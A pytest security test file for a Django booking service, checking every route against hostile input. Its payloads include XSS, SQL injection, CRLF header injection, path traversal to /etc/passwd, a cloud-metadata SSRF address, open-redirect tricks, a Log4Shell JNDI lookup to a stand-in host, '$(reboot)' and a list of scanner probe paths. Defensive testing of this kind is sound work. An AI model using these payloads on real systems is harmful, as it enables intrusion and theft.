"""What a scanner, or somebody with a grudge, would send: to every address, and where other services gave way."""

import json
import re
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
import structlog
from django.contrib.staticfiles.storage import staticfiles_storage
from django.http import HttpResponse
from django.test import Client
from django.urls import get_resolver
from pytest_django import Settings

import rarbooking.settings as as_written
from booking.models import Draft
from tests.booking.journeys import answer_up_to
from tests.rarbooking.answers import booked
from tests.rarbooking.test_nothing_is_open import addresses
from tests.rarbooking.test_sign_in import answer_of_hmpps_auth
from tests.simulator_process import Simulator

pytestmark = pytest.mark.django_db

ELSEWHERE = "elsewhere.example"
SCRIPT = '"><script>alert(1)</script>'
HOSTILE = {
    "another site": f"//{ELSEWHERE}/%2f..",
    "the platform's own addresses": "http://169.254.169.254/latest/meta-data/",
    "a header": "/\r\nX-Injected: yes\r\nSet-Cookie: injected=yes\r\n\r\n<p>",
    "a script": f"' OR '1'='1{SCRIPT}",
    "folders above": "../../../../../../etc/passwd\x00.png",
}
# What names of parameters have led to elsewhere in other services, and those that ours read.
NAMES = (
    *("next", "url", "uri", "redirect", "redirect_uri", "return", "return_to", "continue", "target", "to", "from"),
    *(
        "page",
        "path",
        "file",
        "host",
        "callback",
        "feed",
        "image",
        "src",
        "proxy",
        "domain",
        "_method",
        "state",
        "code",
    ),
    *(
        "find",
        "query",
        "q",
        "version",
        "toolkits",
        "type",
        "change",
        "problem",
        "updates",
        "error",
        "_changelist_filters",
    ),
    *("action", "_popup", "_to_field", "all", "o", "p", "e", "crn", "office", "notes", "useful", "comment", "username"),
)
FORWARDED = (
    *("X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-HTTP-Host-Override", "Forwarded", "X-Original-URL"),
    *("X-Rewrite-URL", "X-Original-Host", "Referer", "X-Forwarded-For", "X-Real-IP", "Client-IP", "True-Client-IP"),
    *("X-Correlation-Id", "X-Request-Id", "X-Wap-Profile", "Profile", "Contact", "From", "traceparent"),
)
SAMPLES = {
    "crn": "X000001",
    "slug": "developing-dialogues",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "int": "1",
    "contact": "1",
    "path": "1",
    "str": "made-up",
}
ENDS_THE_SESSION = {"/sign-out/", "/admin/logout/"}


def every_address() -> list[str]:
    """Every address of the product, filled in with samples."""
    routes = [route for route, _ in addresses(get_resolver().url_patterns) if "(?P<" not in route]
    filled = [re.sub(r"<(\w+):\w+>", lambda found: SAMPLES[found[1]], route) for route in routes]
    return [f"/{each}" for each in filled if "<" not in each] + ["/admin/guidance/", "/admin/no-such-page"]


@pytest.fixture
def all_powerful(robin: Client, starting_set: None, django_user_model: Any) -> Client:
    """Somebody who may open every page, with guidance to look at."""
    django_user_model.objects.update(is_staff=True, is_superuser=True)
    robin.raise_request_exception = False
    return robin


_asked: list[Any] = []


def _hear(event: str, details: tuple[Any, ...]) -> None:
    if _listening and event == "socket.connect":
        _asked.append(details[1])


_listening: list[bool] = []
sys.addaudithook(_hear)


@contextmanager
def outgoing() -> Iterator[list[Any]]:
    """Record every address that this process opens a connection to, as the interpreter itself tells of them."""
    _asked.clear()
    _listening.append(True)
    try:
        yield _asked
    finally:
        _listening.clear()


def assert_harmless(answer: HttpResponse, *, sent: str, simulator: Simulator) -> None:
    assert answer.status_code < 500 or "Delius is not available" in answer.content.decode(), sent
    assert "X-Injected" not in answer.headers
    assert "injected" not in answer.cookies
    for value in answer.headers.values():
        assert not re.search(r"[\r\n]", value)
    if "Location" in answer:
        goes_to = urlsplit(urljoin("http://testserver/", answer["Location"])).netloc
        assert goes_to in {"testserver", urlsplit(simulator.auth_url).netloc}
    assert SCRIPT not in answer.getvalue().decode()


@pytest.mark.database
@pytest.mark.parametrize("kind", HOSTILE)
def test_nothing_that_is_sent_to_any_address_leads_elsewhere_is_fetched_or_breaks_a_page(
    all_powerful: Client, simulator: Simulator, kind: str
) -> None:
    sent = dict.fromkeys(NAMES, HOSTILE[kind])
    headers = dict.fromkeys(FORWARDED, re.sub(r"[\r\n\x00]", " ", HOSTILE[kind]))
    cookies = all_powerful.cookies.output(header="", sep=";")
    with outgoing() as asked:
        for path in every_address():
            if path not in ENDS_THE_SESSION:
                assert_harmless(all_powerful.get(path, sent, headers=headers), sent=f"GET {path}", simulator=simulator)
                assert_harmless(
                    all_powerful.post(path, sent, headers=headers), sent=f"POST {path}", simulator=simulator
                )
        for path in ENDS_THE_SESSION:
            client = Client()
            client.cookies.load(cookies)
            assert_harmless(client.post(path, sent, headers=headers), sent=f"POST {path}", simulator=simulator)
    assert {f"http://{host}:{port}" for host, port in asked} == {simulator.base_url}


class TestRedirects:
    ADDRESSES = (
        f"https://{ELSEWHERE}/",
        f"//{ELSEWHERE}",
        f"///{ELSEWHERE}",
        f"/\\{ELSEWHERE}",
        f"\\\\{ELSEWHERE}",
        f"http:{ELSEWHERE}",
        f"https:///{ELSEWHERE}",
        f"https://testserver@{ELSEWHERE}/",
        f"http://testserver//{ELSEWHERE}/",
        f"http://testserver/\\{ELSEWHERE}/",
        f"https://testserver.{ELSEWHERE}/",
        f"\t//{ELSEWHERE}",
        f"/\t/{ELSEWHERE}",
        f"/\n/{ELSEWHERE}",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "sign-out",
        "signed-out/",
        "booking:cases",
        "no-such-name",
    )

    @pytest.mark.parametrize("address", ADDRESSES)
    def test_signing_in_leads_to_a_page_of_ours(self, simulator: Simulator, rollout: None, address: str) -> None:
        client = Client()
        answer = client.get("/sign-in/callback/", answer_of_hmpps_auth(client, "ROBIN.SAMPLE", page=address))
        assert answer.status_code == 302
        assert urlsplit(urljoin("http://testserver/", answer["Location"].replace("\\", "/"))).netloc == "testserver"
        assert answer["Location"].startswith("/")

    @pytest.mark.parametrize("address", ADDRESSES)
    @pytest.mark.parametrize("signed_in_already", [True, False])
    def test_signing_in_to_the_administration_leads_to_a_page_of_ours(
        self, client: Client, django_user_model: Any, address: str, signed_in_already: bool
    ) -> None:
        typed = {"username": "ADA.ADMIN", "password": "a-password-for-this-test"}
        user = django_user_model.objects.create_superuser(**typed)
        if signed_in_already:
            client.force_login(user)
            answer = client.get("/admin/login/", {"next": address})
        else:
            answer = client.post("/admin/login/", {**typed, "next": address})
        assert answer.status_code == 302
        assert urlsplit(urljoin("http://testserver/", answer["Location"].replace("\\", "/"))).netloc == "testserver"

    @pytest.mark.parametrize("path", [f"//{ELSEWHERE}/admin", f"//{ELSEWHERE}/guidance", "//admin"])
    def test_adding_the_slash_at_the_end_of_an_address_does_not_make_it_another_sites(
        self, robin: Client, path: str
    ) -> None:
        location = robin.get(path).headers.get("Location", "/")
        assert urlsplit(urljoin("http://testserver/", location)).netloc == "testserver"

    def test_the_way_back_from_feedback_is_to_a_page_that_has_feedback(self, robin: Client) -> None:
        page = robin.post("/guidance/feedback/", {"page": f"//{ELSEWHERE}/guidance/toolkits/x/", "useful": "yes"})
        assert page.status_code == 200
        assert "govuk-back-link" not in page.content.decode()

    @pytest.mark.parametrize("header", ["X-Forwarded-Host", "X-Host", "Forwarded", "X-Original-Host"])
    def test_where_hmpps_auth_sends_people_back_to_is_not_for_a_header_to_say(
        self, simulator: Simulator, header: str
    ) -> None:
        for value in (ELSEWHERE, f"host={ELSEWHERE}"):
            assert ELSEWHERE not in Client().get("/sign-in/", headers={header: value})["Location"]


class TestHosts:
    @pytest.mark.parametrize(
        "host", [ELSEWHERE, "testserver.elsewhere.example", "testserver@elsewhere.example", "testserver:x", "a b", "."]
    )
    @pytest.mark.parametrize("path", ["/", "/sign-in/", "/admin/login/", "/health/liveness", "/no-such-page/"])
    def test_a_host_that_is_not_ours_is_refused_and_not_repeated(self, host: str, path: str) -> None:
        answer = Client().get(path, headers={"Host": host})
        assert answer.status_code == 400
        assert ELSEWHERE not in answer.content.decode() + str(answer.headers)


class TestMethods:
    @pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
    def test_a_link_cannot_be_made_into_a_form_by_a_header_or_a_parameter(self, robin: Client, header: str) -> None:
        answer_up_to(robin, "where")
        path = "/cases/X000001/arrange/discard/?_method=POST"
        assert robin.get(path, headers={header: "POST"}).status_code == 405
        assert Draft.objects.exists()

    def test_a_form_from_another_site_is_refused(self, robin: Client) -> None:
        strict = Client(enforce_csrf_checks=True)
        strict.cookies = robin.cookies
        page = robin.get("/guidance/").content.decode()
        [token] = set(re.findall(r'name="csrfmiddlewaretoken" value="(\w+)"', page))
        strict.cookies = robin.cookies
        typed = {"csrfmiddlewaretoken": token, "page": "/guidance/", "useful": "yes"}
        elsewhere = {"Origin": f"https://{ELSEWHERE}"}
        assert strict.post("/guidance/feedback/", typed).status_code == 200
        assert strict.post("/guidance/feedback/", typed, headers=elsewhere).status_code == 403

    @pytest.mark.parametrize("origin", [f"https://{ELSEWHERE}", "null", "http://testserver.elsewhere.example"])
    @pytest.mark.parametrize("path", ["/", "/cases/X000001/schedule/", "/health", "/guidance/"])
    def test_no_other_site_is_let_in_by_an_origin(
        self, robin: Client, simulator: Simulator, origin: str, path: str
    ) -> None:
        for answer in (
            robin.get(path, headers={"Origin": origin}),
            robin.options(path, headers={"Origin": origin, "Access-Control-Request-Method": "POST"}),
        ):
            assert not [name for name in answer.headers if name.startswith("Access-Control")]


class TestFiles:
    FOLDERS_ABOVE = (
        "/assets/../rarbooking/settings.py",
        "/assets/%2e%2e/rarbooking/settings.py",
        "/assets/..%2frarbooking%2fsettings.py",
        "/assets/..%5c..%5crarbooking%5csettings.py",
        "/assets/....//rarbooking/settings.py",
        "/assets/%252e%252e/rarbooking/settings.py",
        "/assets//etc/passwd",
        "/assets/staticfiles.json/../../rarbooking.sqlite3",
        "/assets/\x00",
        "/guidance/toolkits/..%2f..%2fadmin/",
        "/guidance/toolkits/../../etc/passwd",
        "/cases/X000001/arrange/..%2f..%2fschedule/",
        "/cases/X000001%2f../arrange/",
    )

    @pytest.mark.parametrize("path", FOLDERS_ABOVE)
    def test_no_address_leads_out_of_its_folder(self, robin: Client, path: str) -> None:
        answer = robin.get(path)
        assert answer.status_code == (400 if "\x00" in path else 404)
        for told in ("SECRET_KEY", "root:x", "SQLite format"):
            assert told not in answer.content.decode()

    @pytest.mark.parametrize(
        "path",
        [
            *(
                "/.env",
                "/.git/HEAD",
                "/.git/config",
                "/.htaccess",
                "/.DS_Store",
                "/web.config",
                "/backup.zip",
                "/db.sql",
            ),
            *("/manage.py", "/requirements.txt", "/Dockerfile", "/server-status", "/phpinfo.php", "/actuator/env"),
            *(
                "/swagger.json",
                "/openapi.json",
                "/__debug__/",
                "/console",
                "/elmah.axd",
                "/trace.axd",
                "/var/rarbooking.sqlite3",
            ),
            *(
                "/static/",
                "/assets/",
                "/assets/staticfiles.json.bak",
                "/media/",
                "/crossdomain.xml",
                "/clientaccesspolicy.xml",
            ),
        ],
    )
    def test_nothing_that_scanners_look_for_is_there(self, robin: Client, path: str) -> None:
        for client in (robin, Client()):
            assert client.get(path).status_code == 404

    def test_no_comment_or_map_tells_of_what_pages_are_made_from(self, robin: Client) -> None:
        for path in ("/", "/guidance/", "/signed-out/", "/cases/X000001/arrange/type/"):
            assert "<!--" not in robin.get(path).content.decode()
        assert not [name for name in staticfiles_storage.listdir("rarbooking")[1] if name.endswith(".map")]

    @pytest.mark.parametrize(
        "path", ["/cases/X000001/schedule/x.css", "/cases/X000001/schedule.js", "/;x.css", "/x.png"]
    )
    def test_no_page_about_somebody_goes_by_the_name_of_a_file_that_a_cache_would_keep(
        self, robin: Client, path: str
    ) -> None:
        answer = robin.get(path)
        assert answer.status_code == 404
        assert "no-store" in answer["Cache-Control"]


class TestWhatTravelsOn:
    LINES = (
        "made-up\r\nX-Injected: yes",
        "x" * 5000,
        '{"event": "made up"}',
        "$(reboot)",
        "${jndi:ldap://elsewhere.example}",
    )

    @pytest.mark.parametrize("value", LINES)
    @pytest.mark.parametrize("header", ["X-Correlation-Id", "X-Request-Id", "traceparent"])
    def test_an_id_that_a_browser_made_up_goes_neither_upstream_nor_into_the_log(
        self, robin: Client, simulator: Simulator, caplog: pytest.LogCaptureFixture, header: str, value: str
    ) -> None:
        simulator.clear_requests()
        with caplog.at_level("INFO"):
            robin.get("/", headers={header: value})
        sent_on = {each["correlationId"] for each in simulator.requests()}
        assert sent_on
        assert all(re.fullmatch(r"[0-9a-f-]{36}", each) for each in sent_on)
        assert value not in caplog.text

    @pytest.mark.parametrize(
        "line", ['x\n{"event": "booked"}', "x\r\n2026-01-01 [info] booked", "\x1b[31mred", "\u2028x"]
    )
    def test_whatever_is_asked_for_makes_one_line_of_the_log(
        self, robin: Client, caplog: pytest.LogCaptureFixture, settings: Settings, line: str
    ) -> None:
        with caplog.at_level("INFO"):
            robin.get(f"/{line}/", {"find": line}, headers={"User-Agent": line})
        formatter = structlog.stdlib.ProcessorFormatter(
            processor=structlog.processors.JSONRenderer(),
            foreign_pre_chain=settings.LOGGING["formatters"]["structlog"]["foreign_pre_chain"],
        )
        written = [formatter.format(record) for record in caplog.records]
        assert len(written) >= 3
        for each in written:
            assert not re.search(r"[\r\n\x1b\u2028]", each)
            assert json.loads(each)["event"] != "booked"

    def test_a_download_is_named_by_us_whatever_it_is_of(self, robin: Client) -> None:
        answer = robin.get(f"{booked(robin)}calendar.ics", {"filename": "x.exe\r\nX-Injected: yes"})
        assert answer["Content-Disposition"] == 'attachment; filename="appointment.ics"'
        assert answer["X-Content-Type-Options"] == "nosniff"

    def test_only_these_settings_hold_an_address_that_is_asked_for_anything(self) -> None:
        named = {name for name in vars(as_written) if re.search(r"(_URL|_DSN|_STORE)$", name)}
        asked = {
            *("HMPPS_AUTH_URL", "DELIUS_INTEGRATION_URL"),
            *("AUDIT_QUEUE_URL", "NOTIFY_URL", "SENTRY_DSN", "DATABASE_URL", "CACHE_URL", "RATE_LIMIT_STORE"),
        }
        shown_only = {"HMPPS_AUTH_PUBLIC_URL", "DELIUS_URL"}
        own = {"LOGIN_URL", "LOGIN_REDIRECT_URL", "STATIC_URL"}
        assert named - own == asked | shown_only
